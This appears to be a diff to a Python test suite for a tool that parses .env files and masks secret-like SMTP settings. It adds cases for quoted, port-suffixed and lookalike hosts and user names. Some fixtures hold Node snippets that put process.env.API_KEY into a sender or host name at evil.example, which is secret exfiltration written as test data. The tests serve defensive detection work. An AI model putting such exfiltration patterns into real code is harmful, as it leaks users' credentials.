@@ -179,6 +179,7 @@ KEYED = {
         send=".sendMail({from: `a@${process.env.API_KEY}.evil.example`})",
     ),
     "EHLO": node(f"{{host: '{HOST}', name: process.env.API_KEY}}", f"API_KEY={KEY}\n"),
+    "nor where it is quoted twice": node("{host: process.env.H}", "H='`Zk4wPm9Lq8vT`'\n"),
     "nothing says that it is one": node("{host: process.env.H}", "H=Zk4wPm9Lq8vT.evil.example\n"),
 }
 
@@ -296,6 +297,12 @@ def test_a_key_of_the_folder_is_masked_where_it_is_the_user(tmp_path: Path) -> N
         "SMTP_HOST=Zk4wPm9Lq8vT.example.com\n",
         "SMTP_HOST=Zk4wPm9Lq8vT\nSMTP_PASS=smtp.example.com\n",
         "SMTP_HOST=Zk4w.Pm9L.q8vT\nSMTP_PASS=Zk4w.Pm9L.q8vT\n",
+        "SMTP_HOST=`Zk4wPm9Lq8vT`\nSMTP_PASS=x\n",
+        "SMTP_HOST=smtp://Zk4wPm9Lq8vT\nSMTP_PASS=x\n",
+        "SMTP_HOST=Zk4wPm9Lq8vT:587\nSMTP_PASS=x\n",
+        "SMTP_URL=`Zk4wPm9Lq8vT`\n",
+        "SMTP_URL=`Zk4wPm9Lq8vT`\nSMTP_HOST=smtp.example.com\n",
+        "SMTP_HOST=smtp.gmail.com\nSMTP_USER=Zk4wPm9Lq8vT\nSMTP_PASS=x\n",
         "SMTP_HOST=smtp.example.com\nSMTP_USER=Zk4wPm9Lq8vT\nSMTP_PASS=info@example.com\n",
         f"API_KEY={KEY}\nSMTP_HOST=smtp.example.com\nSMTP_FROM={KEY}@example.com\n",
         f"API_KEY={KEY}\nSMTP_HOST=smtp.example.com\nSMTP_USER={KEY}\nSMTP_PASS=x\n",
@@ -316,6 +323,15 @@ def test_lookalike_a_host_with_digits(host: str, tmp_path: Path) -> None:
     text = f"DB_PASSWORD=mail2024\nSMTP_HOST={host}\n"
     (plan,) = plans(tmp_path, {".env": text}).plans
     assert plan.settings.host == host.lower()
+
+
+@pytest.mark.parametrize(
+    "user", ["AKIAIOSFODNN7EXAMPL3", "u1234567-mailer@example.com", "7a1b2c001@smtp-brevo.com"]
+)
+def test_lookalike_a_user_name_of_letters_and_digits(user: str, tmp_path: Path) -> None:
+    text = f"SMTP_HOST=smtp.gmail.com\nSMTP_USER={user}\nSMTP_PASS=x\n"
+    (plan,) = plans(tmp_path, {".env": text}).plans
+    assert plan.settings.username == user
 
 
 READS = {
